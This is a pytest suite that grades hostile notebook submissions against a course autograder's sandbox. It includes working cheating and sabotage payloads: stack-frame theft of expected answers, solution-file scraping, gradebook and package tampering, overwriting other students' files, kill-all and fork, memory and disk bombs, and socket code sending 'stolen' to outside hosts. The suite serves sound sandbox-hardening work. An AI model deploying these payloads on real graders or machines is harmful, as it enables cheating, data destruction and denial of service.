"""Hostile submissions against ``lstm-course grade``: none earns a point it should not, or costs anyone else one.

Every attack below is a chapter 02 notebook whose answers write no honest
exercise (so its honest score is 0), except ``honest_and_hostile``, which
answers everything correctly *and* attacks (honest score: every autograded point). They are graded
in one run, two workers at a time, next to honest full and blank
submissions. Each of these attacks earned full marks, or cost honest
students theirs, against the grader that decided scores inside the kernel.

For every attack the tests check: no undue points; every honest student keeps
exactly their points; the CSV has a row for everyone; no process of the
attack outlives the run; the installed package and other students' files are
unchanged; no solution text reaches the attacker's feedback.
"""

import hashlib
import json
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from grader_fixtures import (ROOT, append_code, make_submission, max_points, read_csv, run_cli, solution_sources,
                             write_notebook)
from lstm_helpers.classroom import sandbox

pytestmark = [pytest.mark.slow, pytest.mark.timeout(2400), pytest.mark.skipif(sandbox.unavailable_reason() is not None,
                                                   reason=f"no sandbox here: {sandbox.unavailable_reason()}")]

CH = "02_rnn"
FULL = max_points(CH)  # every autograded point of the chapter
NOTHING = {answer: "" for answer in solution_sources(CH)}  # every answer cell empty
MARKER = 3617  # `sleep 3617` marks the attacks' own background processes


def _zeros():
    """Functions of the right names and shapes that compute nothing: what an attack falls back to."""
    return (
        "def rnn_cell_forward(x_t, h_prev, params):\n    return np.zeros_like(h_prev), {}\n"
        "def rnn_forward(x, h0, params):\n    return np.zeros((len(x),) + h0.shape), {}\n"
        "def rnn_cell_backward(dh_t, cache):\n    return 0, 0, {}\n"
        "def rnn_backward(dh, cache):\n    return 0, 0, {}\n"
    )


def _attack(code, extra_cells=(), keep_solutions=False):
    """A chapter 02 submission: ``code`` in the first answer cell and nothing honest in the others, or
    (``keep_solutions``) every answer correct with ``code`` in a cell of its own after the first."""
    answers = {} if keep_solutions else dict(NOTHING, rnn_cell_forward=code)

    def edit(nb):
        for cell_code in reversed(list(extra_cells) + ([code] if keep_solutions else [])):
            append_code(nb, "rnn_cell_forward", cell_code)

    return make_submission(CH, answers, edit=edit)


# Where an attacker would look for the course, the grader's folders and other students' work.
SEARCH = ("import glob as _glob, os as _os\n"
          "def _everywhere(pattern):\n"
          "    roots = ('/work', '/root', '/home', '/tmp', '/opt', '/srv', '/var/tmp', '/dev/shm', '/mnt', '..', '../..')\n"
          "    found = {p for r in roots for p in _glob.glob(_os.path.join(r, '**', pattern), recursive=True)}\n"
          "    return sorted(p for p in found if 'site-packages' not in p)  # not the libraries' own files\n")


def attacks(port):
    course = str(ROOT)
    return {
        # The answer walks the stack to the check's locals and returns the expected output.
        "frames": _attack(
            "import importlib as _il\n_s = _il.import_module('s' + 'ys')\n_get = getattr(_s, '_get' + 'frame')\n"
            "def _steal(default):\n"
            "    f = _get(1)\n"
            "    while f is not None:\n"
            "        for key in ('want', 'want_raw', 'expected', 'reference_output'):\n"
            "            if key in f.f_locals:\n"
            "                return f.f_locals[key]\n"
            "        f = f.f_back\n"
            "    return default\n"
            "def rnn_cell_forward(x_t, h_prev, params):\n    return _steal((np.zeros_like(h_prev), {}))\n"
            "def rnn_forward(x, h0, params):\n    return _steal((np.zeros((len(x),) + h0.shape), {}))\n"
            "def rnn_cell_backward(dh_t, cache):\n    return _steal((0, 0, {}))\n"
            "def rnn_backward(dh, cache):\n    return _steal((0, 0, {}))\n"),
        # Stores the scan could not follow, into numpy and into the checks.
        "laundered_patches": _attack(
            "import sys\n[np][0].abs = lambda x: x * 0\n"
            "sys.modules['__main__'].hidden_check = lambda *a, **k: None\n"
            "sys.modules['__main__'].check = lambda *a, **k: print('✔ all visible checks passed.')\n" + _zeros(),
            extra_cells=["%%time\ncheck = lambda *a, **k: None\nhidden_check = check\n"]),
        # The course's references, fetched fresh, copied by code object, or through the hidden tests' loader.
        "fresh_references": _attack(
            "import runpy, types\nimport lstm_helpers.rnn as _r\nimport lstm_helpers.exercises.hidden as _h\n"
            "rnn_cell_forward = runpy.run_module('lstm_helpers.rnn')['rnn_cell_forward']\n"
            "rnn_forward = _h.fresh_checks().EXERCISES['rnn_forward'].reference\n"
            "rnn_cell_backward = types.FunctionType(_r.rnn_cell_backward.__code__, vars(_r))\n"
            "def rnn_backward(dh, cache):\n    return _r.rnn_backward(dh, cache)\n"),
        # Every later cell rewritten to `pass`.
        "input_transformers": _attack(
            "import IPython\nIPython.get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"
            + _zeros()),
        # Looks for the solutions (the course folder, the grader's folders), imports them, prints another chapter's.
        "solutions": _attack(
            SEARCH + "import glob, json, os, sys\n"
            f"_places = _everywhere('*.ipynb') + glob.glob('{course}/solutions/*/*.ipynb')\n"
            "_stolen = ''\n"
            "for _p in _places:\n"
            "    try:\n"
            "        _nb = json.load(open(_p))\n"
            "    except Exception:\n"
            "        continue\n"
            "    for _c in _nb['cells']:\n"
            "        if _c.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
            "            _stolen += ''.join(_c['source']) + '\\n'\n"
            "_outside = [p for p in _places if not os.path.realpath(p).startswith(os.path.expanduser('~'))]\n"
            "print('OUTSIDE MY HOME:', len(_outside), 'notebooks', _outside)\nprint(_stolen)\n"
            "open('stolen.py', 'w').write(_stolen)\nsys.path.insert(0, os.getcwd())\n"
            "try:\n    from stolen import *\nexcept Exception as e:\n    print('import failed', e)\n"),
        # Writes a manual score into every gradebook it can find.
        "gradebook": _attack(
            SEARCH + "import glob, sqlite3\n"
            f"for _db in _everywhere('*.db') + glob.glob('{course}/**/*.db', recursive=True)"
            " + ['../../gradebook.db', '../../../gradebook.db']:\n"
            "    try:\n"
            "        con = sqlite3.connect(_db)\n"
            "        con.execute('update grade set manual_score = 37')\n"
            "        con.commit()\n"
            "        print('wrote', _db)\n"
            "    except Exception as e:\n"
            "        print('no', _db, e)\n" + _zeros()),
        # A detached process that keeps rewriting every results file it can see and kills what it can.
        "detached_writer": _attack(
            SEARCH + "import os, glob, json, signal, time, subprocess\n"
            f"subprocess.Popen(['sleep', '{MARKER}'], start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    end = time.time() + 600\n"
            "    while time.time() < end:\n"
            "        for p in _everywhere('*.json') + _everywhere('*.jsonl'):\n"
            "            try:\n"
            "                open(p, 'w').write(json.dumps({'tests': [], 'score': 99}))\n"
            "            except Exception:\n"
            "                pass\n"
            "        try:\n"
            "            os.kill(-1, signal.SIGKILL)\n"
            "        except Exception:\n"
            "            pass\n"
            "        time.sleep(0.2)\n"
            "    os._exit(0)\n" + _zeros()),
        # Overwrites other students' notebooks wherever they might be staged.
        "other_students": _attack(
            SEARCH + "_found = _everywhere('*.ipynb')\nprint('FOUND', len(_found), 'notebooks')\n"
            "for _p in _found:\n"
            "    try:\n"
            "        open(_p, 'w').write('{}')\n"
            "    except Exception:\n"
            "        pass\n" + _zeros()),
        # Appends a check that passes everything to the installed package (every copy it can find).
        "package": _attack(
            SEARCH + "import glob, lstm_helpers, os\n"
            "for _p in glob.glob(os.path.dirname(lstm_helpers.__file__) + '/exercises/_core.py') + "
            f"['{course}/lstm_helpers/exercises/_core.py'] + _everywhere('_core.py'):\n"
            "    try:\n"
            "        open(_p, 'a').write('\\ndef run_trials(*a, **k):\\n    return True\\n')\n"
            "        print('patched', _p)\n"
            "    except Exception as e:\n"
            "        print('could not patch', _p, e)\n" + _zeros()),
        # Kills everything it can reach, from inside and from a detached child.
        "killer": _attack(
            "import os, signal\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    for target in (-1, os.getppid(), 1):\n"
            "        try:\n"
            "            os.kill(target, signal.SIGKILL)\n"
            "        except Exception:\n"
            "            pass\n"
            "    os._exit(0)\n" + _zeros(),
            extra_cells=["import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
                         "import os, signal\nos.killpg(0, signal.SIGKILL)\n"]),
        # Fork bomb, memory bomb and CPU burner, left running in the background.
        "resources": _attack(
            "import os, subprocess, time\n"
            f"subprocess.Popen(['sleep', '{MARKER}'], start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    while True:\n"
            "        try:\n"
            "            os.fork()\n"
            "        except OSError:\n"
            "            time.sleep(0.01)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    try:\n"
            "        hog = bytearray(64 << 30)\n"
            "    except MemoryError:\n"
            "        pass\n"
            "    while True:\n"
            "        pass\n" + _zeros(),
            extra_cells=["blocks = []\nfor i in range(100):\n    try:\n        blocks.append(bytearray(1 << 30))\n"
                         "    except MemoryError:\n        print('memory limit reached at', i, 'GiB')\n        break\n"
                         "del blocks\n"]),
        # Fills every writable place it can find.
        "disk": _attack(
            "import glob, os, sys\n"
            "_places = ['/tmp', os.path.expanduser('~'), os.getcwd()] + "
            "[os.path.dirname(a) for a in sys.argv if a.endswith('.json')]\n"
            "for _d in _places:\n"
            "    for i in range(200):\n"
            "        try:\n"
            "            with open(os.path.join(_d, f'fill{i}'), 'wb') as fh:\n"
            "                fh.write(b'x' * (64 << 20))\n"
            "        except OSError as e:\n"
            "            print(_d, i, e)\n"
            "            break\n" + _zeros()),
        # The network: the grading machine's loopback and the world.
        "network": _attack(
            "import socket\n"
            f"for host, port in (('127.0.0.1', {port}), ('10.0.0.1', 80), ('93.184.216.34', 80)):\n"
            "    s = socket.socket()\n"
            "    s.settimeout(2)\n"
            "    try:\n"
            "        s.connect((host, port))\n"
            "        s.sendall(b'stolen')\n"
            "        print('connected to', host)\n"
            "    except OSError as e:\n"
            "        print('no network:', host, e)\n" + _zeros()),
        # Replaces the display function, so whatever the grader's caller shows is a forged reply.
        "forged_reply": _attack(
            "import IPython.display, json\n_real = IPython.display.display\n"
            "def _forge(obj, *a, **k):\n"
            "    if isinstance(obj, dict):\n"
            "        for mime, text in list(obj.items()):\n"
            "            try:\n"
            "                reply = json.loads(text)\n"
            "            except Exception:\n"
            "                continue\n"
            "            for outcome in reply.get('outcomes', []):\n"
            "                outcome['error'] = None\n"
            "                outcome['result'] = {'T': [1.0, None]}\n"
            "            obj[mime] = json.dumps(reply)\n"
            "    return _real(obj, *a, **k)\n"
            "IPython.display.display = _forge\n" + _zeros()),
        # Answers that are not plain data, or far too large.
        "hostile_returns": _attack(
            "class Weird(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
            "def rnn_cell_forward(x_t, h_prev, params):\n    return np.zeros_like(h_prev).view(Weird), {}\n"
            "def rnn_forward(x, h0, params):\n    return np.zeros((len(x),) + h0.shape, dtype=object), {}\n"
            "def rnn_cell_backward(dh_t, cache):\n    return (i for i in range(3))\n"
            "def rnn_backward(dh, cache):\n    return np.zeros(30_000_000), np.zeros(1), {}\n"),
        # Floods the output.
        "flood": _attack(
            "import sys\nfor i in range(200):\n    sys.stdout.write('x' * 1_000_000)\n    sys.stderr.write('y' * 100_000)\n"
            + _zeros()),
        # Correct answers, and the attacks on top: exactly full marks, nobody else hurt.
        "honest_and_hostile": _attack(
            "import os, signal, subprocess, glob\n"
            f"subprocess.Popen(['sleep', '{MARKER}'], start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    for target in (-1, 1):\n"
            "        try:\n"
            "            os.kill(target, signal.SIGKILL)\n"
            "        except Exception:\n"
            "            pass\n"
            "    os._exit(0)\n", keep_solutions=True),
    }


HONEST = {"honest_full_a": FULL, "honest_full_b": FULL, "honest_blank": 0}


def _package_digest():
    digest = hashlib.sha256()
    for path in sorted((ROOT / "lstm_helpers").rglob("*.py")):
        digest.update(path.read_bytes())
    return digest.hexdigest()


def _marker_processes():
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            status = (entry / "status").read_text()
        except OSError:
            continue
        uid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("Uid:")))
        if str(MARKER) in cmdline or sandbox.UID_BASE <= uid < sandbox.UID_BASE + sandbox.UID_SPAN:
            found.append((entry.name, uid, cmdline.strip()))
    return found


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    submitted = base / "submitted"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    connections = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    for student, nb in attacks(port).items():
        write_notebook(nb, submitted / student / CH / f"{CH}.ipynb")
    write_notebook(make_submission(CH), submitted / "honest_full_a" / CH / f"{CH}.ipynb")
    write_notebook(make_submission(CH), submitted / "honest_full_b" / CH / f"{CH}.ipynb")
    write_notebook(make_submission(CH, blank=tuple(NOTHING)), submitted / "honest_blank" / CH / f"{CH}.ipynb")
    before = {p: p.read_bytes() for p in submitted.rglob("*.ipynb")}
    digest = _package_digest()
    started = time.monotonic()
    try:
        result = run_cli("grade", submitted, "--jobs", 2, "--out", base / "grades.csv", "--feedback",
                         base / "feedback", "--work", base / "work", "--cell-timeout", 20,
                         "--notebook-timeout", 240, timeout=1500)
    finally:
        stop.set()
        thread.join(5)
        listener.close()
    seconds = time.monotonic() - started
    time.sleep(1)
    rows = {row["student"]: row for row in read_csv(base / "grades.csv")} if (base / "grades.csv").exists() else {}
    print(f"\n{len(rows)} submissions (attacks and honest) graded in {seconds:.0f} s")
    leftovers = _marker_processes()
    for pid, _, _ in leftovers:  # never leave them for the rest of the suite
        subprocess.run(["kill", "-9", pid], capture_output=True)
    return {"base": base, "rows": rows, "cli": result, "connections": connections, "leftovers": leftovers,
            "before": before, "digest_before": digest, "digest_after": _package_digest(), "port": port}


def test_the_run_finishes_with_a_row_for_everyone(hostile_class):
    result = hostile_class["cli"]
    assert result.returncode == 0, result.stdout + result.stderr
    assert set(hostile_class["rows"]) == set(attacks(0)) | set(HONEST)


@pytest.mark.parametrize("student", sorted(HONEST))
def test_honest_students_keep_exactly_their_points(hostile_class, student):
    row = hostile_class["rows"][student]
    assert float(row["total"]) == HONEST[student], row
    assert "could not be graded" not in row["status"] and "again" not in row["status"], row["status"]


@pytest.mark.parametrize("attack", sorted(attacks(0)))
def test_no_attack_earns_an_undue_point(hostile_class, attack):
    row = hostile_class["rows"][attack]
    honest = FULL if attack == "honest_and_hostile" else 0
    assert float(row["total"]) <= honest, row
    if attack == "honest_and_hostile":
        assert float(row["total"]) == FULL, row


def test_no_process_of_any_attack_outlives_the_run(hostile_class):
    assert hostile_class["leftovers"] == []


def test_nothing_reached_the_network(hostile_class):
    assert hostile_class["connections"] == []


def test_the_installed_package_and_other_students_files_are_unchanged(hostile_class):
    assert hostile_class["digest_after"] == hostile_class["digest_before"]
    for path, content in hostile_class["before"].items():
        assert path.read_bytes() == content, f"{path} was changed"


def test_no_solution_reaches_the_attackers_feedback(hostile_class):
    import nbformat

    signature = [cell.source.split("### BEGIN SOLUTION")[1].split("### END SOLUTION")[0].strip().splitlines()[0]
                 for chapter in ("01_feedforward", CH)
                 for cell in nbformat.read(str(ROOT / "solutions" / chapter / f"{chapter}.ipynb"), 4).cells
                 if "### BEGIN SOLUTION" in cell.source]
    text = _feedback_text(hostile_class, "solutions")
    assert "OUTSIDE MY HOME: 0 notebooks" in text, "the attack could see notebooks other than its own"
    leaked = [line for line in signature if line in text and "raise NotImplementedError" not in line]
    assert not leaked, leaked


def _feedback_text(hostile_class, student):
    """The attack's feedback page as plain text (tags removed, entities decoded)."""
    import html as html_module
    import re

    page = (hostile_class["base"] / "feedback" / student / CH / f"{CH}.html").read_text()
    return html_module.unescape(re.sub(r"<[^>]+>", "", page))


def test_a_manual_score_written_by_a_kernel_cannot_reach_any_gradebook(hostile_class):
    from nbgrader.api import Gradebook

    for db in (hostile_class["base"] / "work").rglob("gradebook.db"):
        with Gradebook("sqlite:///" + str(db)) as gb:
            for student in gb.students:
                for submission in student.submissions:
                    for notebook in submission.notebooks:
                        assert all(g.manual_score is None for g in notebook.grades), db


def test_the_feedback_shows_what_each_attack_got(hostile_class):
    assert "is not available while this chapter is graded" in _feedback_text(hostile_class, "fresh_references")
    network = _feedback_text(hostile_class, "network")
    assert "no network: 127.0.0.1" in network and "connected to 1" not in network and "connected to 9" not in network
    assert "could not patch" in _feedback_text(hostile_class, "package")
    assert "patched /" not in _feedback_text(hostile_class, "package")
    gradebook = _feedback_text(hostile_class, "gradebook")
    assert "wrote /" not in gradebook and "wrote ." not in gradebook


def test_without_bubblewrap_grade_refuses_unless_told(tmp_path, monkeypatch):
    """No sandbox: `grade` stops with a clear message; with --no-sandbox every row says it was not isolated."""
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    for tool in ("python", "python3"):
        (fake_bin / tool).symlink_to(Path(os.sys.executable))
    submitted = tmp_path / "submitted"
    write_notebook(make_submission(CH), submitted / "alice" / CH / f"{CH}.ipynb")
    env_path = f"{fake_bin}:{os.path.dirname(os.sys.executable)}:/nonexistent"
    env = dict(os.environ, PATH=env_path)
    refused = subprocess.run([os.sys.executable, "-m", "lstm_helpers.classroom.cli", "grade", str(submitted),
                              "--out", str(tmp_path / "g.csv"), "--no-feedback"], cwd=ROOT, env=env,
                             capture_output=True, text=True, timeout=300)
    assert refused.returncode == 2
    assert "bubblewrap" in refused.stderr and "--no-sandbox" in refused.stderr
    assert not (tmp_path / "g.csv").exists()
    done = subprocess.run([os.sys.executable, "-m", "lstm_helpers.classroom.cli", "grade", str(submitted),
                           "--out", str(tmp_path / "g.csv"), "--no-feedback", "--no-sandbox"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    (row,) = read_csv(tmp_path / "g.csv")
    assert float(row["total"]) == FULL and "graded without isolation" in row["status"]


def test_decode_rejects_what_is_not_plain_data():
    import base64

    import numpy as np

    from lstm_helpers.classroom.codec import DecodeError, decode, encode

    good = encode({"a": np.arange(6.0).reshape(2, 3), "b": [1, "x", None]})
    assert json.loads(json.dumps(good)) == good
    value = decode(json.loads(json.dumps(good)))
    assert value["a"].tolist() == [[0, 1, 2], [3, 4, 5]] and value["b"] == [1, "x", None]
    eight = base64.b64encode(b"\0" * 8).decode()
    for bad in ({"A": ["object", [1], eight]},                      # object arrays
                {"A": ["float64", [1000], eight]},                  # bytes that do not match the shape
                {"A": ["float64", [-1], eight]},                    # a negative size
                {"A": ["float64", [2 ** 40, 2 ** 40], eight]},      # a huge claimed size
                {"G": {"bit_generator": "PCG64"}},                  # generators only travel into a kernel
                {"P": "cos\nsystem\n(S'true'\ntR."},                # anything unknown, pickles included
                {"D": [[["list"], 1]]},                             # keys must be strings or integers
                {"x": 1, "y": 2}):
        with pytest.raises(DecodeError):
            decode(bad)
